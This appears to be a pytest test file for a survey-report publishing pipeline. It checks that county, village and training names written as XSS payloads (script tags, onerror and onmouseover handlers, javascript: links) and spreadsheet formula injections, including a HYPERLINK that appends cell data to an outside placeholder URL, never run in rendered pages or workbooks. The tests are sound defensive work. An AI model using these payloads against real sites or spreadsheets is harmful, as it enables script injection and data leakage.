"""Names in an export never run as code: a county exported with script, markup, link and formula names,
ingested, built and rendered, then every page opened in headless Chromium and every workbook read back.

The hostile county is the small fixture's UTF-8 export with its county, one township, its villages and a
training type renamed. Each payload that could run sets ``document.title`` to a marker; a page whose title
changed, or that holds an element with an event-handler attribute or a ``javascript:`` link, ran (or could
run) injected code. The names must still appear on the pages, as the characters written.
"""
from __future__ import annotations

import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from test_browser import CHROMIUM, page  # noqa: F401  (the browser tab fixture)

MARKERS = ("county", "township", "village", "link", "training")
COUNTY = "<img src=x onerror=\"document.title='county'\">县"
TOWNSHIP = "<script>document.title='township'</script>镇"
VILLAGES = ["<img src=x onerror=\"document.title='village'\">村",
            '=HYPERLINK("http://example.invalid/?"&A1,"点击")',
            "+1+1村", "@SUM(1+1)村", "[点击](javascript:document.title='link')村"]
TRAINING = "<b onmouseover=\"document.title='training'\">家政</b>"
NAMES = [COUNTY, TOWNSHIP, *VILLAGES, TRAINING]


def hostile_export(small_raw: Path, out: Path) -> Path:
    """Copy the fixture's exports to ``out``, renaming places in its UTF-8 CSV export as above; returns
    the renamed file."""
    shutil.copytree(small_raw, out)
    (csv,) = [p for p in out.glob("*.csv") if p.read_bytes().startswith(b"\xef\xbb\xbf")]
    frame = pd.read_csv(csv, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    county, township, village = frame.columns[2], frame.columns[3], frame.columns[4]
    frame[county] = COUNTY
    first = frame[township].iloc[0]
    frame.loc[frame[township] == first, township] = TOWNSHIP
    villages = sorted(frame[village].unique())
    frame[village] = frame[village].map({v: VILLAGES[i % len(VILLAGES)] + (str(i // len(VILLAGES)) if i >= len(VILLAGES) else "")
                                         for i, v in enumerate(villages)})
    training = "培训类型"
    trained = frame[training] != ""
    frame.loc[trained & (frame[training] == frame.loc[trained, training].iloc[0]), training] = TRAINING
    hostile = csv.with_name(csv.name.replace(csv.name.split("_")[2], "异名县"))
    csv.unlink()
    frame.to_csv(hostile, index=False, encoding="utf-8-sig")
    return hostile


@pytest.fixture(scope="module")
def hostile_processed(small_raw, tmp_path_factory):
    from analysis import build
    from analysis.io import ingest
    root = tmp_path_factory.mktemp("hostile")
    hostile_export(small_raw, root / "raw")
    result = ingest.ingest([root / "raw"], out_dir=root / "processed")
    build.build(root / "processed")
    return root / "processed", result


def test_ingest_warns_about_markup_and_formula_names_and_keeps_them(hostile_processed):
    processed, result = hostile_processed
    notes = "\n".join(n for f in result.files for n in f.notes)
    report = (processed / "ingest_report.md").read_text(encoding="utf-8")
    for header in ("县(市、区、旗)", "乡(镇)", "行政村", "培训类型"):
        assert f"column {header}: " in notes and "hold markup" in notes
    assert "start like a spreadsheet formula" in notes
    assert "column 行政村:" in report and "Repairs and warnings: none" not in report
    households = pd.read_parquet(processed / "households")
    assert COUNTY in set(households["county"].astype(str))            # kept as written
    assert {TOWNSHIP, *VILLAGES} <= set(households["township"]) | set(households["village"])


def test_a_county_name_that_cannot_name_a_folder_is_refused_located(small_raw, tmp_path):
    from analysis.errors import DataError
    from analysis.io import ingest
    path = hostile_export(small_raw, tmp_path / "raw")
    frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    frame[frame.columns[2]] = "<script>x</script>县"
    frame.to_csv(path, index=False, encoding="utf-8-sig")
    with pytest.raises(DataError) as refused:
        ingest.ingest([tmp_path / "raw"], out_dir=tmp_path / "processed")
    text = str(refused.value)
    assert f"{path.name}, row 2, column 县(市、区、旗): the county name holds '/'" in text
    assert not (tmp_path / "processed").exists()


@pytest.fixture(scope="module")
def hostile_site(hostile_processed, tmp_path_factory):
    from analysis.publish import pipeline
    processed, _ = hostile_processed
    reports = tmp_path_factory.mktemp("hostile-site") / "reports"
    summary = pipeline.run(regions=[COUNTY], notebooks="all", jobs=2, output_dir=reports, data_dir=processed,
                           prepare=None, progress=False)
    assert summary.exit_code == 0, summary.describe()
    return reports


def test_workbooks_hold_no_formula_from_data(hostile_site, hostile_processed, tmp_path):
    from analysis.reporting import monitoring, page
    # the published workbooks, and the restricted follow-up lists, which carry the village names
    ctx = page.context(region=COUNTY, years=[2020, 2024], data_dir=str(hostile_processed[0]))
    restricted = page.save_restricted(ctx, tmp_path / "restricted", "follow-up", monitoring.follow_up_tables(ctx),
                                      site=hostile_site)
    books = [*sorted(hostile_site.rglob("*.xlsx")), restricted]
    assert len(books) >= 6, "the pages' workbooks were not written"
    seen = set()
    for book in books:
        for sheet in openpyxl.load_workbook(book).worksheets:   # formulas are kept as formulas when read
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{book.name}!{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
    assert set(VILLAGES[1:4]) & seen, "the formula-like village names reach no workbook: the check saw nothing"


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed (Debian: apt-get install chromium)")
def test_no_injected_script_runs_and_names_show_as_text(hostile_site, page):
    pages = sorted(hostile_site.rglob("*.html"))
    assert len(pages) >= 6, [p.name for p in pages]          # the index and the county's five pages
    shown = ""
    for path in pages:
        page.goto(path.as_uri())
        title = page.js("document.title")
        assert title not in MARKERS, f"{path.name}: injected script ran (title {title!r})"
        live = page.js("Array.from(document.querySelectorAll('*')).filter(e => Array.from(e.attributes)"
                       ".some(a => a.name.startsWith('on'))).map(e => e.outerHTML.slice(0, 80))")
        assert live == [], f"{path.name}: elements with event handlers from data: {live}"
        links = page.js("Array.from(document.querySelectorAll('a[href]')).map(a => a.getAttribute('href'))"
                        ".filter(h => /^\\s*javascript:/i.test(h))")
        assert links == [], f"{path.name}: javascript links: {links}"
        scripts = page.js("Array.from(document.scripts).map(s => s.textContent).filter(t => t.includes('document.title'))")
        assert scripts == [], f"{path.name}: a script from data: {scripts}"
        assert page.script_errors() == []
        shown += page.js("document.body.innerText")
    # the names that reach a page (townships and villages reach only the restricted follow-up lists) read as
    # written
    for name in (COUNTY, TRAINING):
        assert name in shown, f"{name!r} is not shown as text on any page"
